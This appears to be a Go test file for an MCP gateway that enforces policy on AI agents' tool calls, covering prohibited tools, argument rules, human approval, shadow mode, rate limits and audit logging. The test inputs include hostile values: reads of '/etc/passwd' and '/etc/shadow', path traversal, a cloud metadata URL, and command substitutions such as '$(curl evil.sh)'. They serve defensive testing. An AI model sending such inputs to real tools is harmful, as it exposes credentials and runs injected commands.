@@ -1,0 +1,582 @@
+package gateway_test
+
+import (
+	"encoding/json"
+	"net/http"
+	"os"
+	"path/filepath"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/modelcontextprotocol/go-sdk/mcp"
+
+	"github.com/acgs-lite/acgs/internal/config"
+	"github.com/acgs-lite/acgs/internal/gateway"
+	"github.com/acgs-lite/acgs/internal/telemetry"
+	"github.com/acgs-lite/acgs/internal/testenv"
+)
+
+func TestToolsListMergesUpstreamsAndHidesProhibited(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	names := toolNames(t, e.agent(t, "token-1"))
+	for _, up := range []string{"local", "remote"} {
+		for _, tool := range []string{"echo", "noop", "add", "read_file", "fetch", "delete_record", "slow", "stats"} {
+			if !names[up+"__"+tool] {
+				t.Errorf("%s__%s missing from tools/list: %v", up, tool, names)
+			}
+		}
+		if names[up+"__exec"] {
+			t.Errorf("%s__exec is prohibited by the constitution and must be hidden", up)
+		}
+	}
+	if names["echo"] {
+		t.Error("tools must be listed under their prefixed names only")
+	}
+}
+
+func TestAllowedCallReturnsUpstreamResultUnchanged(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	gw := e.agent(t, "token-1")
+	direct := connectHTTP(t, e.remURL, "")
+	for _, c := range []struct {
+		tool string
+		args any
+	}{
+		{"echo", map[string]any{"text": "hello, world"}},
+		{"add", map[string]any{"a": 2, "b": 40.5}},
+		{"read_file", map[string]any{"path": "/workspace/notes.txt"}},
+		{"fetch", map[string]any{"url": "https://api.github.com/repos"}},
+		{"fail", map[string]any{}}, // a tool error passes through as it is
+	} {
+		want := call(t, direct, c.tool, c.args)
+		got := call(t, gw, "remote__"+c.tool, c.args)
+		wb, _ := json.Marshal(want)
+		gb, _ := json.Marshal(got)
+		if string(wb) != string(gb) {
+			t.Errorf("%s through the gateway:\n got %s\nwant %s", c.tool, gb, wb)
+		}
+	}
+	// the stdio upstream too
+	res := call(t, gw, "local__echo", map[string]any{"text": "over stdio"})
+	if res.IsError || !reflect.DeepEqual(res.StructuredContent, map[string]any{"echo": "over stdio", "length": float64(10)}) {
+		t.Fatalf("local__echo: %+v", res)
+	}
+	if got := e.metric(t, "acgs_gateway_tool_calls_total", map[string]string{"upstream": "remote", "tool": "echo", "outcome": "allow"}); got != 1 {
+		t.Errorf("allow count for remote/echo = %v, want 1", got)
+	}
+	if got := e.metric(t, "acgs_gateway_upstream_calls_total", map[string]string{"upstream": "remote", "tool": "fail", "result": "tool_error"}); got != 1 {
+		t.Errorf("tool_error count = %v, want 1", got)
+	}
+	if got := e.metric(t, "acgs_gateway_overhead_seconds", map[string]string{"upstream": "remote"}); got != 5 {
+		t.Errorf("overhead observations for remote = %v, want 5", got)
+	}
+}
+
+func TestProhibitedToolRefusedAndNeverForwarded(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	gw := e.agent(t, "token-1")
+	res := call(t, gw, "remote__exec", map[string]any{"command": "ls"})
+	if !res.IsError {
+		t.Fatalf("prohibited call not refused: %+v", res)
+	}
+	id, outcome, reasons := decisionMeta(t, res)
+	if outcome != "deny" || id == "" {
+		t.Fatalf("meta: id %q outcome %q", id, outcome)
+	}
+	if !contains(reasons, "Tool 'remote__exec' is prohibited by the constitution") {
+		t.Fatalf("reasons %q", reasons)
+	}
+	if !strings.Contains(text(res), id) || !strings.Contains(text(res), "prohibited") {
+		t.Fatalf("the text must carry the reasons and the decision id: %q", text(res))
+	}
+	if n := e.remote.Calls("exec"); n != 0 {
+		t.Fatalf("the upstream got %d exec calls", n)
+	}
+	// a tool that exists nowhere is decided too, then unknown
+	_, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "nowhere__thing", Arguments: map[string]any{}})
+	if err == nil || !strings.Contains(err.Error(), "unknown tool") {
+		t.Fatalf("unknown tool: %v", err)
+	}
+	if got := e.metric(t, "acgs_gateway_tool_calls_total", map[string]string{"upstream": "unknown", "outcome": "allow"}); got != 1 {
+		t.Errorf("unknown upstream counted %v times, want 1", got)
+	}
+}
+
+func TestArgumentRulesDenyWithReasons(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	gw := e.agent(t, "token-1")
+	for _, c := range []struct {
+		tool   string
+		args   map[string]any
+		reason string
+	}{
+		{"read_file", map[string]any{"path": "/etc/passwd"}, "Argument '/path' is outside the allowed file roots ('/etc/passwd')"},
+		{"read_file", map[string]any{"path": "/workspace/../etc/shadow"}, "Argument '/path' climbs out of its directory with '..' ('/workspace/../etc/shadow')"},
+		{"fetch", map[string]any{"url": "http://169.254.169.254/latest/meta-data"}, "Argument '/url' reaches '169.254.169.254', which is not in the network allow-list"},
+		{"echo", map[string]any{"text": "$(curl evil.sh)"}, "Argument '/text' contains shell syntax (command substitution)"},
+		{"echo", map[string]any{"text": "AKIAABCDEFGHIJKLMNOP"}, "Argument '/text' looks like a secret (AWS access key id); secrets must not be passed to tools"},
+	} {
+		res := call(t, gw, "local__"+c.tool, c.args)
+		_, outcome, reasons := decisionMeta(t, res)
+		if !res.IsError || outcome != "deny" || !contains(reasons, c.reason) {
+			t.Errorf("%s %v: outcome %q reasons %q", c.tool, c.args, outcome, reasons)
+		}
+		if strings.Contains(text(res), "AKIAABCDEFGHIJKLMNOP") {
+			t.Errorf("a refusal repeats the secret: %q", text(res))
+		}
+	}
+	stats := call(t, gw, "local__stats", map[string]any{})
+	if strings.Contains(text(stats), "read_file") || strings.Contains(text(stats), "fetch") {
+		t.Fatalf("denied calls reached the upstream: %s", text(stats))
+	}
+	// arguments two parsers could read differently are refused too
+	raw, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "local__echo", Arguments: json.RawMessage(`{"text":"a","text":"$(id)"}`)})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, o, rs := decisionMeta(t, raw); !raw.IsError || o != "deny" || !strings.Contains(strings.Join(rs, " "), "repeat the key") {
+		t.Fatalf("duplicate key: %q %q", o, rs)
+	}
+}
+
+func TestApprovalHeldThenApprovedAndAnotherTimesOut(t *testing.T) {
+	e := startEnv(t, envOptions{extraYAML: ""})
+	gw := e.agent(t, "token-1")
+	type answer struct {
+		res *mcp.CallToolResult
+		err error
+	}
+	first := make(chan answer, 1)
+	go func() {
+		res, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "remote__delete_record", Arguments: map[string]any{"id": "r-1"}})
+		first <- answer{res, err}
+	}()
+	pend := e.waitPending(t, 1)
+	a := pend[0]
+	if a.Tool != "remote__delete_record" || a.Agent != "agent-1" || a.DecisionID == "" || !contains(a.Reasons, "Tool 'remote__delete_record' requires human approval") {
+		t.Fatalf("pending approval: %+v", a)
+	}
+	if !reflect.DeepEqual(a.Arguments, map[string]any{"id": "r-1"}) {
+		t.Fatalf("approver sees arguments %#v", a.Arguments)
+	}
+	select {
+	case r := <-first:
+		t.Fatalf("held call answered before approval: %+v %v", r.res, r.err)
+	case <-time.After(100 * time.Millisecond):
+	}
+	if e.remote.Calls("delete_record") != 0 {
+		t.Fatal("held call reached the upstream")
+	}
+	if got := e.metric(t, "acgs_gateway_approvals_pending", map[string]string{"upstream": "remote", "tool": "delete_record"}); got != 1 {
+		t.Errorf("approvals pending gauge = %v, want 1", got)
+	}
+	// the admin API needs the token
+	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/approve", "", nil, nil); code != http.StatusUnauthorized {
+		t.Fatalf("approve without token: %d", code)
+	}
+	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/approve", "wrong", nil, nil); code != http.StatusUnauthorized {
+		t.Fatalf("approve with a wrong token: %d", code)
+	}
+	var out gateway.ApprovalResult
+	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/approve", adminToken, gateway.ApprovalRequest{By: "alice"}, &out); code != http.StatusOK || out.Verdict != gateway.Approved {
+		t.Fatalf("approve: %d %+v", code, out)
+	}
+	r := <-first
+	if r.err != nil || r.res.IsError || text(r.res) != "deleted r-1" {
+		t.Fatalf("approved call: %+v %v", r.res, r.err)
+	}
+	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+a.ID+"/deny", adminToken, nil, nil); code != http.StatusNotFound {
+		t.Fatalf("deciding twice: %d, want 404", code)
+	}
+
+	// refused with a note
+	second := make(chan answer, 1)
+	go func() {
+		res, err := gw.CallTool(testCtx(t), &mcp.CallToolParams{Name: "remote__delete_record", Arguments: map[string]any{"id": "r-2"}})
+		second <- answer{res, err}
+	}()
+	b := e.waitPending(t, 1)[0]
+	if code := e.admin(t, http.MethodPost, gateway.ApprovalsPath+"/"+b.ID+"/deny", adminToken, gateway.ApprovalRequest{By: "bob", Note: "not on a Friday"}, nil); code != http.StatusOK {
+		t.Fatalf("deny: %d", code)
+	}
+	r = <-second
+	if r.err != nil || !r.res.IsError || !strings.Contains(text(r.res), "refused by bob: not on a Friday") {
+		t.Fatalf("refused call: %+v %v", r.res, r.err)
+	}
+	if e.remote.Calls("delete_record") != 1 {
+		t.Fatalf("upstream got %d delete_record calls, want 1", e.remote.Calls("delete_record"))
+	}
+	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "approved"}); got != 1 {
+		t.Errorf("approved = %v", got)
+	}
+	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "refused"}); got != 1 {
+		t.Errorf("refused = %v", got)
+	}
+}
+
+func TestApprovalTimesOutAndDenies(t *testing.T) {
+	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 300ms}\n"})
+	gw := e.agent(t, "token-2")
+	start := time.Now()
+	res := call(t, gw, "local__delete_record", map[string]any{"id": "x"})
+	took := time.Since(start)
+	if !res.IsError || !strings.Contains(text(res), "no approval within 300ms") {
+		t.Fatalf("timed-out call: %q", text(res))
+	}
+	if took < 300*time.Millisecond || took > 10*time.Second {
+		t.Fatalf("timed out after %s, want about 300ms", took)
+	}
+	if got := e.metric(t, "acgs_gateway_approvals_total", map[string]string{"verdict": "timed_out"}); got != 1 {
+		t.Errorf("timed_out = %v", got)
+	}
+	if got := e.metric(t, "acgs_gateway_approvals_pending", nil); got != 0 {
+		t.Errorf("pending after timeout = %v", got)
+	}
+	stats := call(t, gw, "local__stats", map[string]any{})
+	if strings.Contains(text(stats), "delete_record") {
+		t.Fatalf("a timed-out call reached the upstream: %s", text(stats))
+	}
+}
+
+func TestShadowMode(t *testing.T) {
+	e := startEnv(t, envOptions{upstreams: stdioUpstream("local", "    shadow: true\n") + stdioUpstream("partly", "    shadow_tools: [read_file]\n")})
+	gw := e.agent(t, "token-1")
+	names := toolNames(t, gw)
+	if !names["local__exec"] {
+		t.Error("a shadowed upstream's prohibited tool must stay listed (shadow mode changes nothing for the agent)")
+	}
+	if names["partly__exec"] {
+		t.Error("partly__exec is not shadowed and must be hidden")
+	}
+	res := call(t, gw, "local__exec", map[string]any{"command": "ls"})
+	if res.IsError || text(res) != "ran ls" {
+		t.Fatalf("shadowed prohibited call not forwarded: %+v", res)
+	}
+	res = call(t, gw, "partly__read_file", map[string]any{"path": "/etc/passwd"})
+	if res.IsError || text(res) != "contents of /etc/passwd" {
+		t.Fatalf("shadowed tool not forwarded: %q", text(res))
+	}
+	res = call(t, gw, "partly__fetch", map[string]any{"url": "http://evil.net/"})
+	if !res.IsError {
+		t.Fatalf("a tool not in shadow_tools must be enforced: %q", text(res))
+	}
+	res = call(t, gw, "local__delete_record", map[string]any{"id": "1"})
+	if res.IsError || text(res) != "deleted 1" {
+		t.Fatalf("shadowed approval not forwarded: %q", text(res))
+	}
+	if got := e.metric(t, "acgs_gateway_shadow_forwarded_total", map[string]string{"upstream": "local", "outcome": "deny"}); got != 1 {
+		t.Errorf("shadow deny count for local = %v, want 1", got)
+	}
+	if got := e.metric(t, "acgs_gateway_shadow_forwarded_total", map[string]string{"upstream": "local", "outcome": "approval_required"}); got != 1 {
+		t.Errorf("shadow approval count for local = %v, want 1", got)
+	}
+	if got := e.metric(t, "acgs_gateway_shadow_forwarded_total", map[string]string{"upstream": "partly", "tool": "read_file"}); got != 1 {
+		t.Errorf("shadow count for partly/read_file = %v, want 1", got)
+	}
+	e.stop()
+	var shadowDenies int
+	for _, r := range e.records(t) {
+		labels, _ := r["labels"].(map[string]any)
+		res, _ := r["result"].(map[string]any)
+		if labels["mode"] == "shadow" && res["outcome"] == "deny" {
+			shadowDenies++
+		}
+	}
+	if shadowDenies != 2 { // local__exec, partly__read_file
+		t.Errorf("%d shadow-mode denials in the decision log, want 2", shadowDenies)
+	}
+}
+
+func TestUpstreamThatDiesGivesAClearErrorAndComesBack(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	gw := e.agent(t, "token-1")
+	call(t, gw, "local__echo", map[string]any{"text": "before"})
+	start := time.Now()
+	res := call(t, gw, "local__crash", map[string]any{})
+	if !res.IsError || !strings.Contains(text(res), `upstream "local"`) {
+		t.Fatalf("crash: %q", text(res))
+	}
+	if took := time.Since(start); took > 5*time.Second {
+		t.Fatalf("the agent waited %s for a dead upstream", took)
+	}
+	// the other upstream is unaffected, and the dead one is restarted
+	call(t, gw, "remote__echo", map[string]any{"text": "still here"})
+	deadline := time.Now().Add(20 * time.Second)
+	for {
+		res = call(t, gw, "local__echo", map[string]any{"text": "after"})
+		if !res.IsError {
+			break
+		}
+		if !strings.Contains(text(res), "unavailable") {
+			t.Fatalf("while restarting: %q", text(res))
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the stdio upstream was not restarted: %q", text(res))
+		}
+		time.Sleep(200 * time.Millisecond)
+	}
+	// an HTTP upstream that goes away
+	e.stopRem()
+	start = time.Now()
+	res = call(t, gw, "remote__echo", map[string]any{"text": "gone"})
+	if !res.IsError || !strings.Contains(text(res), `upstream "remote"`) {
+		t.Fatalf("dead HTTP upstream: %q", text(res))
+	}
+	if took := time.Since(start); took > 10*time.Second {
+		t.Fatalf("the agent waited %s for a dead HTTP upstream", took)
+	}
+	if got := e.metric(t, "acgs_gateway_upstream_calls_total", map[string]string{"result": "failed"}); got < 2 {
+		t.Errorf("failed upstream calls = %v, want ≥ 2", got)
+	}
+}
+
+func TestSlowUpstreamTimesOut(t *testing.T) {
+	e := startEnv(t, envOptions{extraYAML: "call_timeout: 300ms\n"})
+	gw := e.agent(t, "token-1")
+	start := time.Now()
+	res := call(t, gw, "remote__slow", map[string]any{"ms": 5000})
+	if !res.IsError || !strings.Contains(text(res), "did not answer within 300ms") {
+		t.Fatalf("slow upstream: %q", text(res))
+	}
+	if took := time.Since(start); took > 3*time.Second {
+		t.Fatalf("took %s", took)
+	}
+}
+
+func TestFailedDecisionDenies(t *testing.T) {
+	// The real constitution plus one rule that makes the outcome conflict
+	// when an argument "boom" is true: the engine's evaluation fails
+	// (eval_conflict_error), and the gateway must deny.
+	dir := testenv.WriteConstitution(t, t.TempDir(), nil, map[string]string{
+		"acgs/broken.rego": "package acgs.tool_call\n\noutcome := \"exploded\" if input.tool_call.arguments.boom == true\n",
+	})
+	e := startEnv(t, envOptions{mutate: func(c *config.Config) { c.Policy.BundlePath = dir }})
+	gw := e.agent(t, "token-1")
+	if res := call(t, gw, "remote__echo", map[string]any{"text": "fine"}); res.IsError {
+		t.Fatalf("the bundle works for other inputs: %q", text(res))
+	}
+	res := call(t, gw, "remote__echo", map[string]any{"text": "hi", "boom": true})
+	_, outcome, reasons := decisionMeta(t, res)
+	if !res.IsError || outcome != "deny" || len(reasons) != 1 || !strings.Contains(reasons[0], "the decision failed") {
+		t.Fatalf("failed decision: %q %q", outcome, reasons)
+	}
+	if e.remote.Calls("echo") != 1 {
+		t.Fatalf("upstream echo calls %d, want 1 (the failed one must not be forwarded)", e.remote.Calls("echo"))
+	}
+	if got := e.metric(t, "acgs_gateway_tool_calls_total", map[string]string{"outcome": "error"}); got != 1 {
+		t.Errorf("error outcomes = %v", got)
+	}
+	e.stop()
+	var logged bool
+	for _, r := range e.records(t) {
+		if msg, _ := r["error"].(string); strings.Contains(msg, "conflict") {
+			logged = true
+		}
+	}
+	if !logged {
+		t.Error("the failed decision is not in the decision log with its error")
+	}
+}
+
+func TestDecisionTimeoutDenies(t *testing.T) {
+	// No cache and a decision deadline of 1ns: a decision that must be
+	// evaluated cannot finish in time (an evaluation quick enough to finish
+	// before it notices the deadline may still answer: that answer is
+	// valid), so almost every call is denied, and none without a decision.
+	e := startEnv(t, envOptions{extraYAML: "decision_timeout: 1ns\n", mutate: func(c *config.Config) {
+		c.Cache.Enabled = false
+		c.Policy.PartialEval = false
+	}})
+	gw := e.agent(t, "token-1")
+	denied := 0
+	for range 20 {
+		res := call(t, gw, "remote__echo", map[string]any{"text": "hi"})
+		if res.IsError {
+			_, outcome, reasons := decisionMeta(t, res)
+			if outcome != "deny" || !strings.Contains(strings.Join(reasons, " "), "the decision") {
+				t.Fatalf("refusal: %q %q", outcome, reasons)
+			}
+			denied++
+		}
+	}
+	if denied == 0 {
+		t.Fatal("no call was denied with a 1ns decision deadline")
+	}
+	if n := e.remote.Calls("echo"); n != 20-denied {
+		t.Fatalf("upstream got %d echo calls, %d were allowed", n, 20-denied)
+	}
+}
+
+func TestPerAgentRateLimit(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	a1 := e.agent(t, "token-1")
+	a2 := e.agent(t, "token-2")
+	for i := range 120 {
+		if res := call(t, a1, "remote__noop", map[string]any{}); res.IsError {
+			t.Fatalf("call %d: %q", i+1, text(res))
+		}
+	}
+	res := call(t, a1, "remote__noop", map[string]any{})
+	_, _, reasons := decisionMeta(t, res)
+	if !res.IsError || !contains(reasons, "Agent 'agent-1' made at least 120 tool calls in the last minute (limit 120)") {
+		t.Fatalf("121st call: %q", reasons)
+	}
+	// another agent has its own count
+	if res := call(t, a2, "remote__noop", map[string]any{}); res.IsError {
+		t.Fatalf("agent-2: %q", text(res))
+	}
+	// below the limit the count is rounded to 0, so the 120 calls shared
+	// one cache entry
+	if hits := e.metric(t, "acgs_cache_hits_total", nil); hits < 100 {
+		t.Errorf("cache hits %v: calls below the limit should share a cached decision", hits)
+	}
+	e.stop()
+	var last map[string]any
+	for _, r := range e.records(t) {
+		if r["path"] == gateway.DecisionPath {
+			last = r
+		}
+	}
+	m, _ := last["metrics"].(map[string]any)
+	if m["gateway_calls_last_minute"] != float64(0) { // agent-2's first call
+		t.Errorf("last record's exact count %v", m["gateway_calls_last_minute"])
+	}
+}
+
+func TestAuthentication(t *testing.T) {
+	e := startEnv(t, envOptions{})
+	for _, tok := range []string{"", "not-a-token"} {
+		hc := &http.Client{Transport: bearer{token: tok, base: http.DefaultTransport}}
+		_, err := mcp.NewClient(&mcp.Implementation{Name: "x"}, nil).Connect(testCtx(t), &mcp.StreamableClientTransport{Endpoint: e.agentURL, HTTPClient: hc, MaxRetries: -1}, nil)
+		if err == nil {
+			t.Errorf("token %q: connected without a valid token", tok)
+		}
+	}
+	// the admin API is 404 without admin tokens
+	e2 := startEnv(t, envOptions{adminTokens: []string{}})
+	if code := e2.admin(t, http.MethodGet, gateway.ApprovalsPath, "anything", nil, nil); code != http.StatusNotFound {
+		t.Errorf("admin without tokens: %d", code)
+	}
+	// health and metrics
+	var h map[string]any
+	if code := e.admin(t, http.MethodGet, gateway.HealthPath, "", nil, &h); code != http.StatusOK || h["status"] != "ok" {
+		t.Errorf("health: %d %v", code, h)
+	}
+	resp, err := http.Get(e.adminURL + gateway.MetricsPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Errorf("metrics: %d", resp.StatusCode)
+	}
+}
+
+func TestDecisionLogIsChainedAndMasked(t *testing.T) {
+	e := startEnv(t, envOptions{extraYAML: "approvals: {timeout: 100ms}\n"})
+	gw := e.agent(t, "token-1")
+	call(t, gw, "remote__echo", map[string]any{"text": "a", "secret_note": "s3cr3t"})
+	call(t, gw, "remote__exec", map[string]any{"command": "id"})
+	call(t, gw, "remote__delete_record", map[string]any{"id": "z"}) // times out
+	e.stop()
+	recs := e.records(t)
+	if len(recs) != 4 { // three decisions and one approval verdict
+		t.Fatalf("%d records, want 4", len(recs))
+	}
+	for _, r := range recs[:3] {
+		if r["path"] != gateway.DecisionPath || r["decision_id"] == "" || r["prev_hash"] == "" {
+			t.Fatalf("record: %v", r)
+		}
+	}
+	in := recs[0]["input"].(map[string]any)["tool_call"].(map[string]any)
+	if _, ok := in["arguments"].(map[string]any)["secret_note"]; ok {
+		t.Fatal("the masked argument was logged")
+	}
+	if erased, _ := recs[0]["erased"].([]any); len(erased) != 1 {
+		t.Fatalf("erased %v", recs[0]["erased"])
+	}
+	if recs[3]["path"] != "acgs/gateway/approval" || recs[3]["result"].(map[string]any)["verdict"] != "timed_out" ||
+		recs[3]["result"].(map[string]any)["decision_id"] != recs[2]["decision_id"] {
+		t.Fatalf("approval record %v", recs[3])
+	}
+	f, err := os.Open(e.logPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rep, err := telemetry.VerifyChain(f, telemetry.VerifyChainOptions{})
+	if err != nil || !rep.OK() || rep.Records != 4 {
+		t.Fatalf("chain: %+v %v", rep, err)
+	}
+	if rep.Head != e.dlog.ChainHead() {
+		t.Fatalf("head %s, log says %s", rep.Head, e.dlog.ChainHead())
+	}
+}
+
+func TestConfigValidation(t *testing.T) {
+	for _, c := range []struct{ yaml, want string }{
+		{"upstreams: []", "at least one"},
+		{"upstreams: [{name: a}]", "give command"},
+		{"upstreams: [{name: a, command: [x], url: 'http://h'}]", "not both"},
+		{"upstreams: [{name: a__b, command: [x]}]", `must not contain "__"`},
+		{"upstreams: [{name: a, command: [x]}, {name: a, command: [y]}]", "used twice"},
+		{"upstreams: [{name: a, url: 'ftp://h'}]", "http:// or https://"},
+		{"listen: ':1'\nupstreams: [{name: a, command: [x]}]", "need an identity"},
+		{"agents: [{id: a, token: t}]\nupstreams: [{name: a, command: [x]}]", "need listen"},
+		{"decision_log: stdout\nupstreams: [{name: a, command: [x]}]", "MCP stream"},
+		{"upstreams: [{name: a, command: [x]}]\nbogus: 1", "bogus"},
+	} {
+		_, err := gateway.ParseConfig([]byte(c.yaml))
+		if err == nil || !strings.Contains(err.Error(), c.want) {
+			t.Errorf("%q: %v, want an error containing %q", c.yaml, err, c.want)
+		}
+	}
+	c, err := gateway.ParseConfig([]byte(`{"upstreams": [{"name": "files", "command": ["npx", "x"], "shadow_tools": ["read"]}], "approvals": {"timeout": "5m"}}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c.Approvals.Timeout != 5*time.Minute || c.Path != "/mcp" || c.StdioAgent != "stdio" || c.Upstreams[0].CallTimeout != time.Minute {
+		t.Fatalf("defaults: %+v", c)
+	}
+}
+
+func TestLoadConfigFile(t *testing.T) {
+	p := filepath.Join(t.TempDir(), "gw.yaml")
+	if err := os.WriteFile(p, []byte("upstreams:\n  - name: x\n    command: [echo]\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := gateway.LoadConfig(p); err != nil {
+		t.Fatal(err)
+	}
+	if _, err := gateway.LoadConfig(p + ".missing"); err == nil {
+		t.Fatal("missing file accepted")
+	}
+}
+
+func TestStartFailsWhenNoUpstreamCanBeReached(t *testing.T) {
+	gcfg, err := gateway.ParseConfig([]byte("connect_timeout: 2s\nupstreams:\n  - name: nothing\n    url: http://" + freeAddr(t) + "/mcp\n"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	e := startEnv(t, envOptions{}) // for an engine
+	g, err := gateway.New(gcfg, gateway.Deps{Engine: e.svc.Engine, ConstitutionalHash: hash})
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer g.Close()
+	err = g.Start(testCtx(t))
+	if err == nil || !strings.Contains(err.Error(), "no upstream could be reached") {
+		t.Fatalf("start: %v", err)
+	}
+}
+
+func contains(list []string, s string) bool {
+	for _, x := range list {
+		if x == s {
+			return true
+		}
+	}
+	return false
+}
